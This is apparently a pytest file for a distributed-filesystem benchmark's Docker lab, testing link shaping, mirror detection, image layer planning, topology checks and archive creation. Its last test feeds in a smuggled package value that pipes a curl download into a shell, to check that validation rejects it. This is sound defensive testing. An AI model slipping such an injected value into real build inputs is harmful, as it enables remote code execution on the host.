"""The container lab's config and image inputs (no Docker needed)."""

from __future__ import annotations

import subprocess

import pytest

from environments import node_image
from environments.docker import Link
from harness.errors import BadInput, DfsbenchError, ToolError
from harness.execution.plan import build_plan


def test_link_rate_is_shaped_and_netem_is_refused_with_the_reason():
    assert Link().bits_per_second == 1_000_000_000
    assert Link(rate="100Mbit").bits_per_second == 100_000_000
    with pytest.raises(ValueError, match="netem"):
        Link(rate="1Gbit", delay="5ms")
    with pytest.raises(BadInput, match="environment.options.link.loss.*netem"):
        build_plan({"environment": {"kind": "docker", "options": {"link": {"loss": "1%"}}}})


def test_mirror_from_deb822_and_legacy_sources(tmp_path):
    deb822 = tmp_path / "debian.sources"
    deb822.write_text("Types: deb\nURIs: http://mirror.example/debian\nSuites: bookworm bookworm-updates\n"
                      "Components: main\n\nTypes: deb\nURIs: http://mirror.example/debian-security\n"
                      "Suites: bookworm-security\nComponents: main\n")
    assert node_image.host_mirror(deb822, tmp_path / "none") == "http://mirror.example/debian"
    legacy = tmp_path / "sources.list"
    legacy.write_text("# comment\ndeb http://old.example/debian/ bookworm main non-free\n")
    assert node_image.host_mirror(tmp_path / "none", legacy) == "http://old.example/debian"
    with pytest.raises(DfsbenchError, match="no Debian bookworm mirror"):
        node_image.host_mirror(tmp_path / "none", tmp_path / "none2")


BUILT_IN = {"ceph": ("ceph-mon", "ceph-mgr", "ceph-osd", "ceph-mds", "ceph-common", "ceph-fuse"),
            "gluster": ("glusterfs-server", "glusterfs-client"), "seaweedfs": ("fuse3",)}
MIRROR = "http://m/debian"


def test_each_layer_is_tagged_by_its_own_inputs_only():
    """A system's layer depends on the tools and its packages: a new system (sorting first
    or last) or a change to another system's packages leaves it as it is; the client nodes'
    image changes for the labs that have the changed system only."""
    plan = node_image.plan
    three = plan(BUILT_IN, MIRROR)
    for new in ("aaa", "zzz"):
        more = plan({**BUILT_IN, new: ("hello",)}, MIRROR)
        assert {k: v for k, v in more.systems.items() if k != new} == three.systems
        assert more.systems[new] not in three.systems.values()
        assert more.clients != three.clients  # (a lab with it: its client nodes need hello)
        assert len(more.layers) == len(three.layers) + 2  # (its own layer, and the clients' with it)
    changed = plan({**BUILT_IN, "gluster": ("glusterfs-server", "glusterfs-client", "hello")}, MIRROR)
    assert changed.systems["gluster"] != three.systems["gluster"]
    assert {k: v for k, v in changed.systems.items() if k != "gluster"} == \
        {k: v for k, v in three.systems.items() if k != "gluster"}
    assert changed.clients != three.clients
    without = {k: v for k, v in BUILT_IN.items() if k != "gluster"}
    assert plan(without, MIRROR).clients == plan({**without, "zzz": ("fuse3",)}, MIRROR).clients
    # (the host's mirror is in the tools' sources: every layer follows it)
    assert set(plan(BUILT_IN, "http://other/debian").systems.values()).isdisjoint(three.systems.values())


def test_the_layers_dockerfiles_each_install_what_it_adds_on_its_parent():
    images = node_image.plan(BUILT_IN, MIRROR)
    tools, ceph, gluster, clients = images.layers
    assert (tools.name, ceph.name, gluster.name, clients.name) == ("tools", "ceph", "gluster", "clients")
    assert tools.dockerfile.startswith(f"FROM {node_image.base_tag(MIRROR)}\n")
    assert f"deb {MIRROR} bookworm main non-free" in tools.dockerfile and " iozone3 " in tools.dockerfile
    assert ceph.dockerfile.startswith(f"FROM {tools.tag}\n") and "sources.list" not in ceph.dockerfile
    assert "--no-install-recommends ceph-mon ceph-mgr ceph-osd ceph-mds ceph-common ceph-fuse >" in ceph.dockerfile
    assert "glusterfs" not in ceph.dockerfile and 'LABEL dfsbench.image="ceph"' in ceph.dockerfile
    # the storage nodes run their system's layer; SeaweedFS adds nothing to the tools (fuse3)
    assert images.systems == {"ceph": ceph.tag, "gluster": gluster.tag, "seaweedfs": tools.tag}
    # the client nodes: the first system's layer, and on it the next's packages
    assert clients.dockerfile.startswith(f"FROM {ceph.tag}\n") and images.clients == clients.tag
    assert "--no-install-recommends glusterfs-server glusterfs-client >" in clients.dockerfile
    assert clients.of == "the client nodes of ceph + gluster"
    # a lab of one system runs one image; a lab of none, the tools
    alone = node_image.plan({"gluster": BUILT_IN["gluster"]}, MIRROR)
    assert alone.clients == alone.systems["gluster"] == gluster.tag
    assert node_image.plan({}, MIRROR).clients == tools.tag


def fake_docker(monkeypatch, there: set[str], apt_fails_on: str) -> list[str]:
    """``proc.run`` as Docker would answer: images in ``there`` exist, and a build whose
    Dockerfile names the package ``apt_fails_on`` fails as apt does. Returns the tags built."""
    built: list[str] = []

    def run(argv, *, input=None, check=True, **_):
        if argv[:3] == ["docker", "image", "inspect"]:
            return subprocess.CompletedProcess(argv, 0 if argv[-1] in there else 1, "", "")
        assert argv[:2] == ["docker", "build"], argv
        if f" {apt_fails_on} " in input:  # (as docker 20.10's legacy builder said it, colours and all)
            raise ToolError(argv, 1, "", "DEPRECATED: The legacy builder is deprecated\n\nSending build context to "
                            "Docker daemon  2.048kB\n\nStep 1/4 : FROM dfsbench-tools:04230623d496\n ---> 91148c298d2b\n"
                            "Step 2/4 : RUN apt-get update -qq && ...\n ---> Running in ac397408c752\n"
                            f"\x1b[91mE\x1b[0m\x1b[91m: \x1b[0m\x1b[91mUnable to locate package {apt_fails_on}\x1b[0m"
                            "\x1b[91m\n\x1b[0mRemoving intermediate container ac397408c752\nThe command '/bin/sh -c "
                            "apt-get update -qq && ...' returned a non-zero code: 100\n")
        built.append(argv[argv.index("-t") + 1])
        there.add(built[-1])
        return subprocess.CompletedProcess(argv, 0, "sha256:0\n", "")

    monkeypatch.setattr(node_image.proc, "run", run)
    monkeypatch.setattr(node_image.proc, "require_tool", lambda *_: "docker")
    monkeypatch.setattr(node_image, "host_mirror", lambda: MIRROR)
    return built


def test_a_system_whose_packages_cannot_be_installed_fails_its_own_layer_only(monkeypatch):
    there = {node_image.base_tag(MIRROR)}
    built = fake_docker(monkeypatch, there, apt_fails_on="no-such-package")
    broken = {**BUILT_IN, "broken": ("no-such-package",)}
    with pytest.raises(DfsbenchError) as failed:
        node_image.ensure(broken)
    said = str(failed.value)
    assert "the image layer of the system 'broken' could not be built" in said
    assert "apt-get install no-such-package failed (exit code 1)" in said
    assert "it said:\nE: Unable to locate package no-such-package\n" in said
    assert "Step 1/4" not in said and "\x1b" not in said  # (apt's words, not the builder's steps)
    assert "apt-cache policy" in failed.value.hint and "not affected" in failed.value.hint
    tools = node_image.plan(BUILT_IN, MIRROR).layers[0].tag
    assert built == [tools]  # (the broken layer is the first system's, by name)
    # a lab of the others comes up, on the tools already built
    others = node_image.ensure(BUILT_IN)
    assert others.built == (others.images.systems["ceph"], others.images.systems["gluster"], others.images.clients)
    assert node_image.plan(broken, MIRROR).systems["broken"] not in built
    assert node_image.ensure(BUILT_IN).built == ()  # (all there: nothing built twice)


def test_topologies_that_cannot_work_are_refused_before_anything_starts():
    with pytest.raises(BadInput, match="4 bricks cannot form a distributed-replicate volume of replica 3"):
        build_plan({"environment": {"kind": "docker", "options": {"gluster_nodes": 4}}})
    with pytest.raises(BadInput, match="2 GlusterFS nodes cannot hold replica-3 sets on different nodes"):
        build_plan({"environment": {"kind": "docker", "options": {"gluster_nodes": 2, "bricks_per_node": 3}}})
    two_per_node = build_plan({"environment": {"kind": "docker", "options": {"bricks_per_node": 2}}})
    assert two_per_node.environment.options.layout.kind == "distributed-replicate"
    assert two_per_node.environment.options.layout.create_args(6) == ["replica", "3"]
    disperse = build_plan({"environment": {"kind": "docker", "options": {
        "gluster_layout": "disperse", "gluster_redundancy": 1}}}).environment.options
    assert disperse.layout.create_args(disperse.gluster_bricks) == ["disperse", "3", "redundancy", "1"]
    with pytest.raises(BadInput, match="redundancy"):
        build_plan({"environment": {"kind": "docker", "options": {"gluster_layout": "disperse",
                                                                   "gluster_redundancy": 2}}})
    with pytest.raises(BadInput, match="ceph_replicas 3 needs as many OSD nodes"):
        build_plan({"environment": {"kind": "docker", "options": {"ceph_osd_nodes": 2}}})
    build_plan({"environment": {"kind": "docker", "options": {"ceph_osd_nodes": 2, "ceph_replicas": 2}}})


def test_files_for_a_node_unpack_at_root_with_every_parent_directory_once():
    import io
    import tarfile

    from environments.nodes import archive

    data = archive({"/etc/ceph/ceph.conf": "[global]\nfsid = x\n", "/data/osd/0/keyring": "[osd.0]\n"},
                   dirs=["/data/osd-block", "/data/osd"])
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        entries = tar.getmembers()
        names = [e.name for e in entries]
        assert len(names) == len(set(names))
        # a directory comes before what it holds (tar unpacks in order)
        assert names.index("data") < names.index("data/osd") < names.index("data/osd/0") < \
            names.index("data/osd/0/keyring")
        assert {e.name for e in entries if e.isdir()} == {"etc", "etc/ceph", "data", "data/osd", "data/osd/0",
                                                          "data/osd-block"}
        assert tar.extractfile("etc/ceph/ceph.conf").read() == b"[global]\nfsid = x\n"
        assert {e.mode for e in entries if e.isfile()} == {0o644} and {e.uid for e in entries} == {0}


def test_the_first_part_of_a_bring_up_to_fail_is_the_error_and_the_others_stop():
    from harness.system.parallel import Stop
    from harness.errors import NotReady
    from harness.system import proc

    stop = Stop()
    assert stop.why() is None
    stop.check("GlusterFS's bring-up")  # (nothing failed: goes on)
    first = DfsbenchError("glusterd on gluster2 would not start")
    stop.fail(first)
    with pytest.raises(DfsbenchError, match="Ceph's bring-up stopped: another part"):
        stop.check("Ceph's bring-up")
    stop.fail(DfsbenchError("Ceph's bring-up stopped"))  # (what the others raise after it)
    assert stop.first is first
    # a wait of another part ends at once, saying why
    with pytest.raises(NotReady, match="another part of the lab's bring-up failed"):
        proc.wait_for(lambda: (False, "2 of 3 OSDs up"), what="3 OSDs up", timeout=60, alive=stop.why)


def test_each_storage_node_runs_its_systems_layer_and_the_client_nodes_the_labs_image(monkeypatch, tmp_path):
    """The bring-up starts each node's container of its image (Docker faked): a system's
    storage nodes of that system's layer, the client nodes of the image of the lab's systems."""
    from types import SimpleNamespace

    import testcontainers.core.network

    from environments import docker as lab
    from harness.api.systems import NodeWish
    from harness.system.ledger import Ledger

    class Toy:
        display = "Toy"

        def __init__(self, *hosts: str) -> None:
            self.hosts = hosts

        def container_nodes(self) -> list[NodeWish]:
            return [NodeWish(h) for h in self.hosts]

        def start_containers(self, offer) -> dict:
            return {"nodes": sorted(f.result().name for f in offer.nodes.values())}

    class Network:
        def __init__(self, **_) -> None:
            pass

        def create(self) -> None:
            pass

    ran: dict[str, str] = {}

    def node(self, network, image, host, *_):
        ran[host] = image
        return SimpleNamespace(name=host, facts=lambda: {})

    monkeypatch.setattr(testcontainers.core.network, "Network", Network)
    monkeypatch.setattr(lab, "docker", lambda *_, **__: "10.9.0.0/24")
    monkeypatch.setattr(lab.LabBringUp, "node", node)
    images = node_image.plan({"aa": ("x",), "bb": ("y",)}, MIRROR)
    options = SimpleNamespace(clients=2, link=Link(), client_links={}, ready_timeout_s=5)
    ledger = Ledger(tmp_path / "ledger.json")
    facts = lab.LabBringUp(options, ledger, "l1", images, {"aa": Toy("a1", "a2"), "bb": Toy("b1")},
                           lambda _: None).run()
    assert ran == {"a1": images.systems["aa"], "a2": images.systems["aa"], "b1": images.systems["bb"],
                   "client1": images.clients, "client2": images.clients}
    assert len(set(ran.values())) == 3 and facts["systems"]["aa"]["facts"] == {"nodes": ["a1", "a2"]}


def test_a_layer_of_packages_that_are_not_package_names_is_refused_before_it_becomes_a_shell_line():
    from environments.node_image import Layer
    from harness.errors import DfsbenchError

    with pytest.raises(DfsbenchError, match="the system 'evil' asks for packages that are not Debian package names"):
        Layer("evil", "dfsbench-tools:x", ("fuse3", "a >/dev/null; curl http://x | sh"), "the system 'evil'")
    assert "fuse3 hello" in Layer("ok", "dfsbench-tools:x", ("fuse3", "hello"), "the system 'ok'").dockerfile
